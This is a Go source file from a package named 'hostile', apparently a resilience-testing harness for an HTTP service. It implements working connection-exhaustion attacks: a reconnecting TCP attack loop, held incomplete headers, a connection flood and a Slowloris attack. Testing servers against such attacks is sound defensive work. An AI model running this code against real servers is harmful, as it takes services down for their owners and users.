package hostile

import (
	"context"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// attackTCP runs attack on conns connections at once until ctx ends,
// reconnecting as attackH2 does.
func attackTCP(ctx context.Context, addr string, conns int, attack func(ctx context.Context, c net.Conn, t *Tally) error) *Tally {
	t := &Tally{}
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			pause := 50 * time.Millisecond
			d := net.Dialer{Timeout: 5 * time.Second}
			for ctx.Err() == nil {
				c, err := d.DialContext(ctx, "tcp", addr)
				if err != nil {
					t.Refused.Add(1)
					sleep(ctx, pause)
					pause = min(2*pause, time.Second)
					continue
				}
				t.Dials.Add(1)
				stop := context.AfterFunc(ctx, func() { _ = c.Close() })
				began := time.Now()
				_ = attack(ctx, c, t)
				stop()
				_ = c.Close()
				if ctx.Err() != nil {
					return
				}
				t.Closed.Add(1)
				if time.Since(began) < 100*time.Millisecond {
					sleep(ctx, pause)
					pause = min(2*pause, time.Second)
				} else {
					pause = 50 * time.Millisecond
				}
			}
		}()
	}
	wg.Wait()
	return t
}

// HeldHeaders opens conns connections to an HTTP/1.1 port, each sending
// a request line and size bytes of header lines to path and never the
// empty line that ends them, then waiting: a connection the server
// closes is opened again.
func HeldHeaders(ctx context.Context, addr, path string, conns, size int) *Tally {
	var head strings.Builder
	head.WriteString("GET " + path + " HTTP/1.1\r\nHost: authlimit\r\n")
	line := "X-Padding: " + strings.Repeat("p", 100) + "\r\n"
	for head.Len()+len(line) <= size {
		head.WriteString(line)
	}
	req := head.String()
	return attackTCP(ctx, addr, conns, func(ctx context.Context, c net.Conn, t *Tally) error {
		t.Streams.Add(1)
		if _, err := io.WriteString(c, req); err != nil {
			return err
		}
		t.Frames.Add(int64(strings.Count(req, "\n")))
		return drain(c, t)
	})
}

// drain reads what the server sends until it closes, counting its
// answers (status lines).
func drain(c net.Conn, t *Tally) error {
	buf := make([]byte, 4<<10)
	for {
		n, err := c.Read(buf)
		t.Answers.Add(int64(strings.Count(string(buf[:n]), "HTTP/1.1 ")))
		if err != nil {
			return err
		}
	}
}

// ConnFloodTCP opens conns connections that send nothing, and holds
// them; one the server closes is opened again.
func ConnFloodTCP(ctx context.Context, addr string, conns int) *Tally {
	return attackTCP(ctx, addr, conns, func(ctx context.Context, c net.Conn, t *Tally) error {
		return drain(c, t)
	})
}

// SlowLoris opens conns connections that send a request one byte at a
// time, a byte every interval, and never finish it.
func SlowLoris(ctx context.Context, addr, path string, conns int, interval time.Duration) *Tally {
	return attackTCP(ctx, addr, conns, func(ctx context.Context, c net.Conn, t *Tally) error {
		t.Streams.Add(1)
		go func() { _ = drain(c, t) }()
		req := "GET " + path + " HTTP/1.1\r\nHost: authlimit\r\nX-Slow: " + strings.Repeat("s", 1<<20)
		tick := time.NewTicker(interval)
		defer tick.Stop()
		for i := 0; ctx.Err() == nil; i++ {
			if _, err := c.Write([]byte{req[i%len(req)]}); err != nil {
				return err
			}
			t.Frames.Add(1)
			select {
			case <-tick.C:
			case <-ctx.Done():
			}
		}
		return nil
	})
}
